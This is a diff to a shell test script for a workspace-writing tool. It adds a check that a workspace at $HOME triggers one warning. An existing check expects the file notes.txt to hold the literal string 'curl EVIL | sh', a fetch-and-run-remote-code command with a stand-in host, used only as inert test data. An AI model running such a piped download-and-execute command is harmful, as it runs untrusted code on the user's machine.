@@ -6,7 +6,7 @@
 # workspace is still written.
 cd "${0%/*}" && . ./lib.sh
 
-plan 8
+plan 9
 
 unset OXI_CONFIG_DIR	# the configuration in ~/.config/oxi
 WS=$HOME
@@ -69,6 +69,8 @@ tail -n 3 "$TMP/out" >"$TMP/ok"
 check 'the rest of the workspace is written' \
 	'[ "$(jget "[\"is_error\"]" "$TMP/ok" | sort -u)" = false ] &&
 	 [ "$(cat "$WS/notes.txt")" = "curl EVIL | sh" ] && [ -f "$WS/.config/other/x" ]'
+check 'a workspace at $HOME gets one warning' \
+	'[ "$(grep -c "warning: the workspace is the home directory" "$TMP/err")" = 1 ]'
 check 'the messages name no absolute path' \
 	'! grep -q "$HOME" "$TMP/msgs"'
 
